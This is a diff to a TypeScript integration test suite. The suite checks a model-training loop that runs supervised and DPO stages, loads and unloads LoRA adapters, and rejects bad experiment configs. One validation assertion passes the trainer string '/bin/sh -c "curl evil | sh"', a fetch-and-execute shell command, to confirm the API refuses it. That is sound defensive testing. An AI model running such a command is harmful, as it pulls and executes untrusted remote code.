@@ -68,6 +68,8 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
         'sim-hang': trainer('hang', ['--pid-file', pidFile]),
         'sim-fail': trainer('fail'),
         'sim-adapter-plateau': trainer('adapter', ['--unlearned-from', '3']),
+        // Adapters with the seed's weights: every iteration's judge errs as the seed does, so each has DPO pairs.
+        'sim-adapter-stages': trainer('adapter', ['--method', '{method}', '--unlearned-from', '1']),
       },
     }));
     app = await startTestApp({ STE_CONFIG: file, TRAINING_DIR: path.join(dir, 'training') });
@@ -155,6 +157,41 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     expect((await judges.stats()).routes['POST /v1/unload_lora_adapter']).toBe(unloadsBefore + 1);
   }, 300_000);
 
+  it('runs [SUPERVISED, DPO] with the COMMAND trainer, loading only the DPO stage\'s adapter, which judges next and is unloaded once superseded', async () => {
+    const before = (await judges.stats()).routes;
+    const id = await experiment('stages', { backend: 'COMMAND', trainer: 'sim-adapter-stages', stages: ['SUPERVISED', 'DPO'] });
+    dataOf(await app.gql('mutation ($id: ID!) { runLoop(experimentId: $id, iterations: 2) { id } }', { id }));
+    type Job = { stageIndex: number; method: string; baseModel: string; status: string; fineTunedModel: string | null };
+    const done = await eventually(async () => {
+      const v = dataOf(await app.gql<{ experiment: { loop: { status: string; error: string | null }; iterations: { id: string; judgeModel: string; trainedModel: string | null; trainingJobs: Job[]; stages: StageView[] }[] } }>(
+        `query ($id: ID!) { experiment(id: $id) { loop { status error } iterations { id judgeModel trainedModel
+          trainingJobs { stageIndex method baseModel status fineTunedModel } stages { id kind status error message log(last: 30) { stream line } } } } }`, { id },
+      )).experiment;
+      return v.loop.status === 'RUNNING' ? undefined : v;
+    }, 240_000, 250);
+    expect(done.loop).toEqual({ status: 'SUCCEEDED', error: null });
+    const [one, two] = done.iterations as [(typeof done.iterations)[number], (typeof done.iterations)[number]];
+    const named = (it: { id: string }, n: number, method: string) => `judge-it${n}-${it.id}-${method}`;
+    expect(one.trainingJobs).toEqual([
+      { stageIndex: 0, method: 'SUPERVISED', baseModel: 'sim-judge', status: 'succeeded', fineTunedModel: named(one, 1, 'sft') },
+      { stageIndex: 1, method: 'DPO', baseModel: named(one, 1, 'sft'), status: 'succeeded', fineTunedModel: named(one, 1, 'dpo') },
+    ]);
+    expect(one.trainedModel).toBe(named(one, 1, 'dpo'));
+    expect(two.judgeModel).toBe(named(one, 1, 'dpo'));
+    expect(two.trainedModel).toBe(named(two, 2, 'dpo'));
+    const log = one.stages.find((s) => s.kind === 'TRAIN')!.log.map((l) => l.line);
+    expect(log).toContain(`sim-trainer adapter iteration 1 base sim-judge hyperparameters {}`);
+    expect(log).toContain(`sim-trainer adapter iteration 1 base ${named(one, 1, 'sft')} hyperparameters {}`);
+    // The SFT adapters never took a slot on the server: two loads (each iteration's DPO adapter), and
+    // one unload (iteration 1's, superseded by iteration 2's).
+    await eventually(async () => (((await judges.stats()).routes['POST /v1/unload_lora_adapter'] ?? 0) === (before['POST /v1/unload_lora_adapter'] ?? 0) + 1 ? true : undefined), 30_000, 100);
+    const routes = (await judges.stats()).routes;
+    expect(routes['POST /v1/load_lora_adapter']).toBe((before['POST /v1/load_lora_adapter'] ?? 0) + 2);
+    const served = await judges.models();
+    expect(served).toContain(named(two, 2, 'dpo'));
+    for (const gone of [named(one, 1, 'sft'), named(one, 1, 'dpo'), named(two, 2, 'sft')]) expect(served).not.toContain(gone);
+  }, 300_000);
+
   it('refuses an experiment that names a URL, a path or a command instead of a configured name, with the field at fault', async () => {
     const refused = async (config: Record<string, unknown>) => {
       const response = await app.gql('mutation ($config: ExperimentConfigInput) { createExperiment(name: "x", config: $config) { id } }', { config });
@@ -168,7 +205,7 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     });
     expect(await refused({ endpoints: { trained: 'nowhere' } })).toMatchObject({ field: 'config.endpoints.trained', message: expect.stringContaining('configured: default, gen, judges') });
     expect(await refused({ training: { backend: 'COMMAND', trainer: '/bin/sh -c "curl evil | sh"' } })).toMatchObject({ code: 'BAD_USER_INPUT', field: 'config.training.trainer' });
-    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail, sim-adapter-plateau') });
+    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail, sim-adapter-plateau, sim-adapter-stages') });
     expect(await refused({ training: { backend: 'OPENAI', trainer: 'sim-adapter' } })).toMatchObject({ field: 'config.training.trainer' });
     expect(await refused({ training: { backend: 'COMMAND', trainer: 'sim-adapter', hyperparameters: { learning_rate: 1e-6 } } })).toMatchObject({
       field: 'config.training.hyperparameters',
